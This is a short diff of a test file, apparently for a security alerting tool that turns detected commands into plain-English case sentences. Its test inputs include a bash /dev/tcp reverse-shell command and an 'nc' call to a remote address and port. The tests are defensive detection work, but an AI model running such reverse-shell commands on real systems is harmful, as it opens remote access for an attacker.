@@ -99,3 +99,11 @@ test('stays one sentence of bounded length whatever the command holds', () => {
   const long = `bash -i >& /dev/tcp/203.0.113.9/443 0>&1 #${'x'.repeat(50_000)}`;
   expect(toCaseSentence(toAlertOf(toEvent(long)), english).length).toBeLessThan(1000);
 });
+
+test('names the addresses of what a script was made to run', () => {
+  const event = toEvent(REVERSE_SHELL);
+  const tellingCommand = 'sh -c nc 198.51.100.7 4444';
+  expect(toCaseSentence({ ...toAlertOf(event), tellingCommand }, english)).toContain(
+    'The command names 198.51.100.7 on the internet.'
+  );
+});
